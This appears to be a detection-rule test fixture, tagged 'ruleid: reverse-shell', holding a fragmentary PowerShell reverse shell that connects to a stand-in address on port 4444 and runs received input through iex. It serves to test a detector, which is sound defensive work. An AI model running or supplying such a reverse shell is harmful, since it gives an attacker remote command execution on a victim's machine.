# ruleid: reverse-shell
$c = New-Object System.Net.Sockets.TCPClient("203.0.113.7", 4444); $s = $c.GetStream()
while (($i = $s.Read($b, 0, $b.Length)) -ne 0) { $o = (iex $d 2>&1 | Out-String) }
